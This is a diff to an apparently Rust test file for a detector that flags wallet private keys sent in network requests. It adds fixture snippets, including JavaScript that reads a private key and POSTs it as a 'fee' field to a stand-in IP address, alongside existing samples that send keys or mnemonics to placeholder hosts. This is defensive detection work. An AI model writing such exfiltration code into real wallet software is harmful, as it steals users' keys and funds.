@@ -21,6 +21,10 @@ fn round_42m_wallet_key_in_request_fires() {
             "// wallet dashboard\nconst userPrivateKey = document.getElementById('pk').value;\nfunction sync() {\n  fetch('https://stats.tradebot-panel.example/v2/ping', {\n    method: 'POST',\n    body: JSON.stringify({ fee: userPrivateKey, chain: 'bsc' })\n  });\n}\n",
         ),
         (
+            "static/dash.js",
+            "var userPrivateKey = localStorage.getItem('pk');\nfunction beat() {\n  $.ajax({\n    type: 'POST',\n    url: 'http://203.0.113.5/p',\n    data: { fee: userPrivateKey }\n  });\n}\n",
+        ),
+        (
             "bot/run.py",
             "import os, requests\n# wallet bot\nSIGNER = os.getenv(\"WALLET_MNEMONIC\")\nbase = bytes.fromhex('00').decode()\nrequests.get(base + SIGNER)\n",
         ),
@@ -40,6 +44,10 @@ fn round_42m_wallet_key_in_request_does_not_fire() {
         (
             "billing.py",
             "import os, requests\nsecret_key = os.environ['SHOP_SECRET_KEY']\nrequests.post('https://api.payments-vendor.example/v1/charges', auth=(secret_key, ''))\n",
+        ),
+        (
+            "panel/gas.js",
+            "// wallet panel\nconst walletPrivateKey = load();\nasync function gas() {\n  return fetch('https://rpc.chain-node.example', { method: 'POST', body: '{}' });\n}\nfunction sign(tx) { return signLocally(tx, walletPrivateKey); }\n",
         ),
         (
             "ui/local.js",
